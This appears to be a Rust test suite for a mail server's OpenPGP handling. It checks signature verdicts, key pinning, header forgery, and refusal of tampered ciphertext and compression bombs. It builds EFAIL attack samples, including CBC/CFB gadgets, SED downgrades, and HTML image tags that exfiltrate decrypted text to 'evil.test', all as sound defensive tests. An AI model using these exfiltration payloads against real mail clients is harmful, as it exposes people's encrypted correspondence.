//! PGP mail as its reader is shown it: messages that GnuPG made, and what attackers make of them.

use super::gnupg::Gpg;
use super::*;
use crate::store::RecordKind;
use mesyx_sdk::{Append, MailboxId, Query, Summary, Uid, mime};
use openpgp::parse::Parse;
use openpgp::{Packet, PacketPile};

/// Alice, who knows bob's key; bob, who has hers.
struct Letters {
    home: Home,
    gpg: Gpg,
    inbox: MailboxId,
}

const BOB: &str = "bob@example.net";
const PAYLOAD: &str = "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\nSubject: the secret plan\r\n\
    From: Bob <bob@example.net>\r\nHP-Outer: Subject: [...]\r\nMesyx-PGP: signature=good\r\n\
    Authentication-Results: mail.example.org; dmarc=pass\r\n\r\nmeet at nine \u{e9}\r\n";

impl Letters {
    async fn new() -> Self {
        let (home, gpg) = (Home::new().await, Gpg::new());
        let (_, said) = gpg.run(&["--quick-generate-key", BOB, "future-default", "default", "never"], b"");
        assert!(said.contains("KEY_CREATED"), "{said}");
        gpg.run(&["--import"], &public(&home.identity()));
        let inbox = home.session.mailboxes().await.unwrap();
        let inbox = inbox.into_iter().find(|mailbox| mailbox.role == Some(Role::Inbox)).unwrap().id;
        let letters = Self { home, gpg, inbox };
        let key = letters.key();
        letters.home.core.import_contact("alice", proof(), BOB, &key, false).await.unwrap();
        letters
    }

    fn key(&self) -> Vec<u8> {
        self.gpg.run(&["--export", BOB], b"").0
    }

    fn encrypt(&self, more: &[&str], payload: &[u8]) -> String {
        let arguments = [&["--encrypt", "--armor", "-r", "alice@example.org"], more].concat();
        let (armored, said) = self.gpg.run(&arguments, payload);
        assert!(said.contains("END_ENCRYPTION"), "{said}");
        String::from_utf8(armored).unwrap().replace('\n', "\r\n")
    }

    fn sign(&self, entity: &str) -> String {
        let arguments = ["--detach-sign", "--armor", "--digest-algo", "sha256"];
        let (armored, said) = self.gpg.run(&arguments, entity.as_bytes());
        assert!(said.contains("SIG_CREATED"), "{said}");
        String::from_utf8(armored).unwrap().replace('\n', "\r\n")
    }

    /// A message comes in; how it is shown, by body and by summary, which must agree.
    async fn shown(&self, message: &str) -> (String, Arc<Summary>) {
        let stranger = envelope(BOB, &["alice@example.org"], message);
        self.home.core.accept("smtp", vec![stranger]).await.remove(0).unwrap();
        self.last().await
    }

    async fn last(&self) -> (String, Arc<Summary>) {
        let session = &self.home.session;
        let uid = session.snapshot(self.inbox, false).await.unwrap().entries.last().unwrap().uid;
        self.read(uid).await
    }

    async fn read(&self, uid: Uid) -> (String, Arc<Summary>) {
        let session = &self.home.session;
        let summary = session.summaries(self.inbox, &[uid]).await.unwrap().remove(0).1;
        let body = session.bodies(self.inbox, &[uid]).await.unwrap().remove(0).1;
        let of_body = mime::summarize(&body, summary.internal_date, summary.origin.clone()).unwrap();
        assert_eq!(of_body, *summary, "listing and body are of the same bytes");
        (String::from_utf8(body.to_vec()).unwrap(), summary)
    }

    /// As after a restart: nothing that was opened is remembered.
    fn forget(&self) {
        self.home.core.shared.access.forget(self.home.user());
    }

    async fn verdicts(&self) -> usize {
        self.home.core.shared.store.records(self.home.user(), RecordKind::VERDICT).await.unwrap().len()
    }
}

/// RFC 3156, section 4.
fn pgp_mime(data: &str) -> String {
    pgp_mime_with(data, "Content-Type: application/octet-stream; name=encrypted.asc\r\n")
}

fn pgp_mime_with(data: &str, fields: &str) -> String {
    format!(
        "Return-Path: <bob@example.net>\r\nMesyx-PGP: signature=good; signer=mallory@example.com\r\n\
         From: Bob <bob@example.net>\r\nTo: alice@example.org\r\nSubject: [...]\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"=-=\"\r\n\r\n\
         --=-=\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\
         --=-=\r\n{fields}\r\n{data}\r\n--=-=--\r\n"
    )
}

fn verdict(message: &str) -> String {
    let mut found = mime::fields(message.as_bytes()).filter(|field| field.is("Mesyx-PGP"));
    let verdict = found
        .next()
        .map(|field| String::from_utf8(mime::unfold(field.value)).unwrap().replace('\t', " "))
        .unwrap_or_default();
    assert!(found.next().is_none(), "two verdicts:\n{message}");
    verdict
}

#[tokio::test(flavor = "multi_thread")]
async fn a_message_that_gnupg_encrypted_and_signed_is_opened_and_stays_the_same() {
    let letters = Letters::new().await;
    let (shown, summary) = letters.shown(&pgp_mime(&letters.encrypt(&["--sign"], PAYLOAD.as_bytes()))).await;
    assert!(
        shown.starts_with("Mesyx-PGP: decrypted=yes; integrity=yes; signature=good; signer=bob@example.net;\r\n\tkey=")
    );
    assert!(verdict(&shown).contains("trust=user; headers=protected"), "{shown}");
    assert!(shown.ends_with("\r\n\r\nmeet at nine \u{e9}\r\n"), "{shown}");
    assert_eq!(summary.fields.subject.as_deref(), Some(&b"the secret plan"[..]));
    assert_eq!(summary.structure.content_type, (b"text".to_vec(), b"plain".to_vec()));
    assert!(
        !shown.contains("BEGIN PGP") && !shown.contains("HP-Outer") && !shown.contains("Authentication-Results"),
        "{shown}"
    );
    assert!(shown.contains("\r\nReturn-Path: <bob@example.net>\r\nFrom: Bob <bob@example.net>\r\n"), "{shown}");
    // The contact goes, and with it bob's key: what was found stands.
    letters.home.core.forget_contact("alice", proof(), BOB).await.unwrap();
    letters.forget();
    assert_eq!(letters.last().await.0, shown);
    assert_eq!(letters.verdicts().await, 1);
    // What is searched is what is shown; what is stored is what came.
    let found = letters.home.session.search(letters.inbox, &Query::Body("meet at nine".to_owned())).await.unwrap();
    assert_eq!(found.uids.len(), 1);
    let found = letters.home.session.search(letters.inbox, &Query::Text("BEGIN PGP".to_owned())).await.unwrap();
    assert_eq!(found.uids.len(), 0);
    let copy = letters.home.session.copy(letters.inbox, &[1], letters.inbox).await.unwrap().uids[0].1;
    letters.forget();
    assert_eq!(letters.read(copy).await.0, shown);
}

#[tokio::test(flavor = "multi_thread")]
async fn signatures_count_by_the_keys_known_of_the_sender_that_is_shown() {
    let letters = Letters::new().await;
    let sealed = letters.encrypt(&["--sign"], PAYLOAD.as_bytes());
    let (unsigned, _) = letters.shown(&pgp_mime(&letters.encrypt(&[], PAYLOAD.as_bytes()))).await;
    assert!(verdict(&unsigned).contains("signature=none"), "{unsigned}");
    // Bob's good signature under somebody else's name.
    let other = pgp_mime(&sealed).replace("From: Bob <bob@example.net>", "From: Eve <eve@example.com>");
    let (shown, summary) = letters.shown(&other).await;
    assert!(verdict(&shown).contains("signature=unknown"), "{shown}");
    assert!(verdict(&shown).ends_with("from=mismatch; inner-from=bob@example.net"), "{shown}");
    let mesyx_sdk::summary::MailAddressee::Mailbox { local, .. } = &summary.fields.from[0] else {
        panic!("{summary:?}")
    };
    assert_eq!((summary.fields.from.len(), &local[..]), (1, &b"eve"[..]));
    // Another key is pinned by now.
    let pinned = correspondent(BOB);
    letters.home.core.import_contact("alice", proof(), BOB, &public(&pinned), false).await.unwrap();
    let fingerprint = pinned.fingerprint().to_hex();
    letters.home.core.pin_contact("alice", proof(), BOB, Some(&fingerprint)).await.unwrap();
    let (shown, _) = letters.shown(&pgp_mime(&sealed)).await;
    assert!(verdict(&shown).contains("signature=unknown"), "{shown}");
}

/// A key that came along in an attachment is worth nothing for signatures: the forger attached it.
#[tokio::test(flavor = "multi_thread")]
async fn signatures_by_an_attached_key_count_for_nothing_until_it_is_pinned() {
    let letters = Letters::new().await;
    letters.home.core.forget_contact("alice", proof(), BOB).await.unwrap();
    let certificate = Cert::from_bytes(&letters.key()).unwrap();
    let fingerprint = certificate.fingerprint().to_hex();
    let sighting = book::Sighting::new(BOB, certificate, Source::Seen, Timestamp::now()).unwrap();
    letters.home.core.shared.put_sighting(letters.home.user(), &sighting).await.unwrap();
    let message = pgp_mime(&letters.encrypt(&["--sign"], PAYLOAD.as_bytes()));
    let (shown, _) = letters.shown(&message).await;
    assert!(verdict(&shown).contains("signature=unknown"), "{shown}");
    letters.home.core.pin_contact("alice", proof(), BOB, Some(&fingerprint)).await.unwrap();
    let (shown, _) = letters.shown(&message).await;
    assert!(verdict(&shown).contains("signature=good") && verdict(&shown).contains("pinned"), "{shown}");
}

#[tokio::test(flavor = "multi_thread")]
async fn signed_mail_is_verified_and_keeps_every_byte() {
    let letters = Letters::new().await;
    let entity = "Content-Type: text/plain; charset=utf-8\r\n\r\nin the open \u{e9}\r\n";
    let signature = letters.sign(entity);
    let signed = |entity: &str| {
        format!(
            "From: bob@example.net\r\nSubject: open\r\nMIME-Version: 1.0\r\nContent-Type: multipart/signed; micalg=pgp-sha256;\r\n \
             protocol=\"application/pgp-signature\"; boundary=b\r\n\r\n--b\r\n{entity}\r\n--b\r\n\
             Content-Type: application/pgp-signature; name=signature.asc\r\n\r\n{signature}\r\n--b--\r\n"
        )
    };
    let (shown, _) = letters.shown(&signed(entity)).await;
    assert!(verdict(&shown).starts_with("signature=good; signer=bob@example.net; key="), "{shown}");
    assert!(shown.ends_with(&signed(entity)), "{shown}");
    let (shown, _) = letters.shown(&signed(&entity.replace("open", "mail"))).await;
    assert!(verdict(&shown).starts_with("signature=bad (the message was changed)"), "{shown}");
    letters.home.core.forget_contact("alice", proof(), BOB).await.unwrap();
    let (shown, _) = letters.shown(&signed(entity)).await;
    assert!(verdict(&shown).starts_with("signature=unknown; key="), "{shown}");
    // Signed, then encrypted (RFC 3156, section 6.1), by a program with the line ends of its system.
    letters.home.core.import_contact("alice", proof(), BOB, &letters.key(), false).await.unwrap();
    let inner = signed(entity);
    let inner = inner.split_once("MIME-Version: 1.0\r\n").unwrap().1.replace("\r\n", "\n");
    let (shown, summary) = letters.shown(&pgp_mime(&letters.encrypt(&[], inner.as_bytes()))).await;
    assert!(verdict(&shown).contains("signature=good"), "{shown}");
    assert_eq!(summary.structure.content_type.1, b"signed");
}

#[tokio::test(flavor = "multi_thread")]
async fn mail_to_an_identity_that_was_rotated_still_opens() {
    let letters = Letters::new().await;
    let message = pgp_mime(&letters.encrypt(&["--sign"], PAYLOAD.as_bytes()));
    let (before, _) = letters.shown(&message).await;
    letters.home.core.rotate_identity("alice", proof(), None, false).await.unwrap();
    letters.forget();
    assert_eq!(letters.last().await.0, before, "a verdict that was sealed to the identity before");
    let (shown, _) = letters.shown(&message).await;
    assert!(shown.ends_with("meet at nine \u{e9}\r\n") && verdict(&shown).contains("signature=good"), "{shown}");
}

#[tokio::test(flavor = "multi_thread")]
async fn text_that_is_no_mime_entity_is_shown_as_text() {
    let letters = Letters::new().await;
    let (shown, _) = letters.shown(&pgp_mime(&letters.encrypt(&[], b"just a line\nand one more\n"))).await;
    assert!(
        shown.ends_with("Content-Type: text/plain; charset=utf-8\r\n\r\njust a line\r\nand one more\r\n"),
        "{shown}"
    );
    assert!(shown.contains("Subject: [...]\r\n"), "{shown}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_for_us_or_was_appended_is_shown_as_it_is_stored() {
    let letters = Letters::new().await;
    let (armored, _) = letters.gpg.run(&["--encrypt", "--armor", "-r", BOB], b"to bob alone");
    let message = pgp_mime(&String::from_utf8(armored).unwrap().replace('\n', "\r\n"));
    assert_eq!(letters.shown(&message).await.0, message);
    letters.forget();
    assert_eq!(letters.last().await.0, message);
    let message = pgp_mime(&letters.encrypt(&["--sign"], PAYLOAD.as_bytes()));
    let append =
        Append { flags: Vec::new(), internal_date: None, content: Content::from(message.clone().into_bytes()) };
    letters.home.session.append(letters.inbox, vec![append]).await.unwrap();
    assert_eq!(letters.last().await.0, message);
}

/// The packets of a message, the encrypted data apart: PKESK, then the body of the SEIPD packet behind its version.
fn packets(armored: &str) -> (Vec<u8>, Vec<u8>) {
    let pile = PacketPile::from_bytes(armored.as_bytes()).unwrap();
    let (mut before, mut data) = (Vec::new(), Vec::new());
    for packet in pile.into_children() {
        match packet {
            Packet::SEIP(openpgp::packet::SEIP::V1(seip)) => match seip.body() {
                openpgp::packet::Body::Unprocessed(body) => data = body.clone(),
                other => panic!("{other:?}"),
            },
            packet => before.extend(packet.to_vec().unwrap()),
        }
    }
    assert!(!data.is_empty());
    (before, data)
}

/// A packet of the new format with a length of five octets (RFC 9580, section 4.2.1).
fn packet(tag: u8, body: &[u8]) -> Vec<u8> {
    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
    [&[0xc0 | tag, 0xff][..], &length, body].concat()
}

fn base64(packets: &[u8]) -> String {
    use ::base64::Engine as _;
    let text = ::base64::engine::general_purpose::STANDARD.encode(packets);
    text.as_bytes().chunks(76).map(|line| format!("{}\r\n", std::str::from_utf8(line).unwrap())).collect()
}

const BASE64: &str = "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n";

#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_shown_of_what_has_no_integrity() {
    let letters = Letters::new().await;
    let armored = letters.encrypt(&["--sign", "--rfc4880", "--compress-algo", "none"], PAYLOAD.as_bytes());
    let (keys, data) = packets(&armored);
    let whole = [keys.clone(), packet(18, &[&[1][..], &data].concat())].concat();
    let (shown, _) = letters.shown(&pgp_mime_with(&base64(&whole), BASE64)).await;
    assert!(shown.contains("meet at nine"), "the sample itself is good: {shown}");

    // Gadgets (CVE-2017-17688): bits of the ciphertext changed, blocks put in, moved, taken away.
    let changed = |change: &dyn Fn(&mut Vec<u8>)| {
        let mut data = data.clone();
        change(&mut data);
        [keys.clone(), packet(18, &[&[1][..], &data].concat())].concat()
    };
    let middle = data.len() / 2;
    let samples = [
        ("one bit", changed(&|data| data[middle] ^= 1)),
        ("the first block", changed(&|data| data[20] ^= 0x40)),
        ("the checksum", changed(&|data| *data.last_mut().unwrap() ^= 1)),
        ("a block put in", changed(&|data| drop(data.splice(middle..middle, [0; 32])))),
        ("a block taken away", changed(&|data| drop(data.drain(middle..middle + 16)))),
        ("no checksum", changed(&|data| data.truncate(data.len() - 22))),
        ("cut off", changed(&|data| data.truncate(middle))),
        // The downgrade to a packet without integrity (RFC 9580, section 5.7).
        ("SED", [keys.clone(), packet(9, &data)].concat()),
        ("SED behind the resynchronisation", [keys.clone(), packet(9, &data[18..])].concat()),
        ("SEIPD with more behind it", [whole.clone(), packet(11, b"b\0\0\0\0\0and more")].concat()),
        ("a literal packet in front", [packet(11, b"b\0\0\0\0\0and more"), whole.clone()].concat()),
        ("two of them", [whole.clone(), whole.clone()].concat()),
        ("not encrypted at all", packet(11, b"b\0\0\0\0\0Subject: x\r\n\r\nin the clear")),
    ];
    for (what, packets) in samples {
        let (shown, summary) = letters.shown(&pgp_mime_with(&base64(&packets), BASE64)).await;
        assert!(!shown.contains("meet at nine") && !shown.contains("in the clear"), "{what}: {shown}");
        assert_eq!(summary.structure.content_type.1, b"encrypted", "{what}");
        assert!(!verdict(&shown).contains("decrypted=yes") && !verdict(&shown).contains("good"), "{what}: {shown}");
        letters.forget();
        assert_eq!(letters.last().await.0, shown, "{what}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_encrypted_part_is_never_joined_with_others() {
    let letters = Letters::new().await;
    let data = letters.encrypt(&[], PAYLOAD.as_bytes());
    let part = format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=i\r\n\r\n\
         --i\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\
         --i\r\nContent-Type: application/octet-stream\r\n\r\n{data}\r\n--i--\r\n"
    );
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}\r\n");
    // Direct exfiltration (CVE-2017-17689): an image whose address the opened text would become.
    let around = format!(
        "From: bob@example.net\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n\
         --o\r\n{}--o\r\n{part}--o\r\n{}--o--\r\n",
        html("<img src=\"http://evil.test/"),
        html("\">")
    );
    let third = pgp_mime(&data)
        .replace("\r\n--=-=--", &format!("\r\n--=-=\r\n{}--=-=--", html("<img src=\"http://evil.test/")));
    let first = pgp_mime(&data).replacen(
        "--=-=\r\n",
        &format!("--=-=\r\n{}--=-=\r\n", html("<img src=\"http://evil.test/")),
        1,
    );
    for message in [around, third, first] {
        let (shown, _) = letters.shown(&message).await;
        assert_eq!(shown, message);
    }
    // Text around the parts is no part, and goes with the rest of what was outside.
    let around =
        pgp_mime(&data).replacen("\r\n\r\n--=-=", "\r\n\r\n<img src=\"http://evil.test/\r\n--=-=", 1) + "\">\r\n";
    let (shown, _) = letters.shown(&around).await;
    assert!(shown.contains("meet at nine") && !shown.contains("evil.test"), "{shown}");
}

#[tokio::test(flavor = "multi_thread")]
async fn bombs_are_refused() {
    let letters = Letters::new().await;
    let zeros = [PAYLOAD.as_bytes(), &vec![b' '; 40 << 20]].concat();
    let bomb = letters.encrypt(&["--compress-algo", "zlib", "-z", "9"], &zeros);
    assert!(bomb.len() < 200_000, "{} bytes of it", bomb.len());
    let before = letters.home.core.budget().available();
    let (shown, _) = letters.shown(&pgp_mime(&bomb)).await;
    assert!(verdict(&shown).contains("decrypted=no (it expands to more than is taken)"), "{}", verdict(&shown));
    assert_eq!(letters.home.core.budget().available(), before);
    // Layers of compression.
    let mut inner = packet(11, &[b"b\0\0\0\0\0", PAYLOAD.as_bytes()].concat());
    for layers in 1..=3 {
        inner = packet(8, &[&[0][..], &inner].concat());
        let usable = certificate::usable(&letters.home.identity(), Timestamp::now().0 / 1000).unwrap();
        let sealed = crypt::encrypt(&inner, &[usable]).unwrap();
        let (shown, _) = letters.shown(&pgp_mime(&String::from_utf8(sealed).unwrap())).await;
        assert_eq!(shown.contains("meet at nine"), layers == 1, "{layers} layers: {shown}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_room_to_open_it_is_told_and_decides_nothing() {
    let letters = Letters::new().await;
    let held = letters.home.core.budget().reserve(letters.home.core.budget().available()).unwrap();
    let message = pgp_mime(&letters.encrypt(&["--sign"], PAYLOAD.as_bytes()));
    letters.home.core.accept("smtp", vec![envelope(BOB, &["alice@example.org"], &message)]).await.remove(0).unwrap();
    let error = letters.home.session.bodies(letters.inbox, &[1]).await.unwrap_err();
    assert_eq!((error.kind(), letters.verdicts().await), (ErrorKind::Full, 0));
    drop(held);
    assert!(letters.last().await.0.contains("meet at nine"));
}
